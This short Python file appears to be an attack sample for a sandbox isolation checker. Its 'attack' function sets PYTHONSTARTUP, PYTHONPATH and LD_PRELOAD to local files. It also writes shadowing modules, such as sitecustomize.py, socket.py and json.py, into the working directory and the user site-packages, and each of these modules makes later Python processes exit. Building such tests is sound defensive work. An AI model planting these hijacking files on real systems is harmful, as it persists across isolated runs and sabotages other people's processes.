# cases: 13, 14
# guard: everything
"""Leaves settings and modules for the next check's Python, and looks for those of an earlier one."""
import os
import site
import sys


def attack(bait):
    if os.environ.get("LEFT_BEHIND") or "left_behind" in sys.modules:
        return "what an earlier check has left"
    here = os.getcwd()
    os.environ.update(LEFT_BEHIND="1", PYTHONSTARTUP=here + "/left.py", PYTHONPATH=here, LD_PRELOAD=here + "/left.so")
    own = site.getusersitepackages()
    for folder in (here, own):
        try:
            os.makedirs(folder, exist_ok=True)
            for name in ("sitecustomize.py", "usercustomize.py", "socket.py", "json.py", "left.py", "struct.py"):
                if bait["sandboxed"]:
                    with open(f"{folder}/{name}", "w") as file:
                        file.write("import sys, os\nsys.modules['left_behind'] = sys\nos._exit(0)\n")
        except OSError:
            continue
